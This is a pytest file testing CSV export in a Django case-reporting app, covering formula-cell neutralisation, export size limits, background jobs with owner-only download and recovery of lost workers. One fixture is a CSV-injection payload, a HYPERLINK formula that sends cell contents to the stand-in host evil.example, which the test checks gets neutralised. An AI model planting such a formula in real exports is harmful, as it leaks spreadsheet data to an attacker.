"""Exports (issue 16 #1, #2): formula cells neutralised, small exports streamed, large ones as a background job
with progress and a download only its owner gets."""

from __future__ import annotations

import csv
import io
import json

import pytest

from gaoxin.api import exports
from gaoxin.api.models import ExportJob
from gaoxin.cases.tests.conftest import report


@pytest.fixture
def clock_on(frozen_now):
    with frozen_now(2023, 3, 1, 9):
        yield


EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _csv(response) -> list[list[str]]:
    body = response.getvalue() if hasattr(response, "getvalue") else b"".join(response.streaming_content)
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_formula_cells_are_neutralised(api, people, clock_on):
    report(people.citizen, address=EVIL, reporter_name="=张三")
    response = api.client.get("/api/v1/cases/export.csv",
                              headers={"Authorization": f"Bearer {api.token(people.a_operator)}"})
    rows = _csv(response)
    assert rows[1][4] == "'" + EVIL
    assert rows[1][5] == "'=**"  # the masked name starts with "=": neutralised too


def test_an_export_over_the_limit_is_refused_with_the_way_to_a_background_job(api, people, clock_on, monkeypatch):
    monkeypatch.setattr(exports, "SYNC_LIMIT", 2)
    for _ in range(3):
        report(people.citizen)
    response = api.client.get("/api/v1/cases/export.csv",
                              headers={"Authorization": f"Bearer {api.token(people.a_operator)}"})
    assert response.status_code == 413
    problem = json.loads(response.content)
    assert (problem["code"], problem["field"], problem["rows"]) == ("export_too_large", "filters", 3)


def test_a_background_export_runs_with_progress_and_only_its_owner_downloads_it(
        api, people, clock_on, monkeypatch, django_capture_on_commit_callbacks):
    monkeypatch.setattr(exports, "BATCH", 2)
    cases = [report(people.citizen, description=f"占道经营 {i}") for i in range(5)]
    with django_capture_on_commit_callbacks(execute=True):  # the task starts after the commit
        status, job, _ = api.post("/cases/exports", {"state": "reported"}, as_=people.a_operator)
    assert status == 202
    assert (job["status"], job["rows_total"]) == ("queued", 5)
    status, job, _ = api.get(f"/exports/{job['id']}", as_=people.a_operator)  # the worker (immediate in tests) ran
    assert (job["status"], job["rows_done"]) == ("done", 5)
    assert job["file_url"].endswith(f"/api/v1/exports/{job['id']}/file")
    response = api.client.get(f"/api/v1/exports/{job['id']}/file",
                              headers={"Authorization": f"Bearer {api.token(people.a_operator)}"})
    rows = _csv(response)
    assert [r[0] for r in rows[1:]] == [c.number for c in reversed(cases)]
    assert response["X-Content-Type-Options"] == "nosniff"
    status, problem, _ = api.get(f"/exports/{job['id']}", as_=people.b_operator)
    assert (status, problem["code"]) == (404, "export_not_found")
    response = api.client.get(f"/api/v1/exports/{job['id']}/file",
                              headers={"Authorization": f"Bearer {api.token(people.b_operator)}"})
    assert response.status_code == 404


def test_a_bad_filter_is_refused_before_anything_is_queued(api, people, clock_on):
    status, problem, _ = api.post("/cases/exports", {"state": "nonsense"}, as_=people.a_operator)
    assert (status, problem["field"]) == (400, "state")
    assert ExportJob.objects.count() == 0


def test_a_failed_export_is_recorded_for_its_owner(people, clock_on, monkeypatch,
                                                   django_capture_on_commit_callbacks):
    def broken(*args, **kwargs):
        raise RuntimeError("disk full")

    monkeypatch.setattr(exports, "csv_chunks", broken)
    with django_capture_on_commit_callbacks(execute=True):
        job = exports.export_job_create(actor=people.a_operator, kind="cases", source="api", filters={})
    job.refresh_from_db()
    assert (job.status, job.error) == ("failed", "disk full")


@pytest.mark.parametrize("kind", ["enterprises", ""])
def test_unknown_kinds_are_refused(people, kind):
    from gaoxin.core.errors import ApplicationError

    with pytest.raises(ApplicationError) as refused:
        exports.export_job_create(actor=people.a_operator, kind=kind, source="api", filters={})
    assert refused.value.field == "kind"
    assert ExportJob.objects.count() == 0


def test_a_job_whose_worker_was_lost_is_queued_again_and_written_once(people, frozen_now,
                                                                        django_capture_on_commit_callbacks):
    with frozen_now(2023, 3, 1, 9):
        report(people.citizen)
        job = exports.export_job_create(actor=people.a_operator, kind="cases", source="api", filters={})
    # The worker took it and was killed (kill -9, or the database went away under it): running, silent.
    ExportJob.objects.filter(pk=job.pk).update(status="running", attempts=1, heartbeat_at=job.created_at)
    with frozen_now(2023, 3, 1, 9, 4), django_capture_on_commit_callbacks(execute=True):
        assert exports.export_jobs_requeue_stale() == 0  # silent for 4 minutes: not yet
    with frozen_now(2023, 3, 1, 9, 6), django_capture_on_commit_callbacks(execute=True):
        assert exports.export_jobs_requeue_stale() == 1
    job.refresh_from_db()
    assert (job.status, job.attempts, job.rows_done) == ("done", 2, 1)
    # A second copy of the task finds it claimed and writes nothing.
    assert exports.export_job_run(job_id=job.pk).file.name == job.file.name


def test_a_job_lost_three_times_fails_with_the_reason(people, frozen_now):
    with frozen_now(2023, 3, 1, 9):
        job = exports.export_job_create(actor=people.a_operator, kind="cases", source="api", filters={})
    ExportJob.objects.filter(pk=job.pk).update(status="running", attempts=3, heartbeat_at=job.created_at)
    with frozen_now(2023, 3, 1, 9, 10):
        assert exports.export_jobs_requeue_stale() == 0
    job.refresh_from_db()
    assert job.status == "failed"
    assert job.error == "导出进程 3 次中断，请缩小筛选范围后重新导出"


def test_a_full_disk_leaves_the_job_running_to_be_queued_again(people, clock_on, monkeypatch,
                                                                django_capture_on_commit_callbacks):
    def full(*args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(exports, "csv_chunks", full)
    with django_capture_on_commit_callbacks(execute=True):  # the task raises; the worker logs it and goes on
        exports.export_job_create(actor=people.a_operator, kind="cases", source="api", filters={})
    job = ExportJob.objects.get()
    assert (job.status, job.attempts, job.error) == ("running", 1, "")
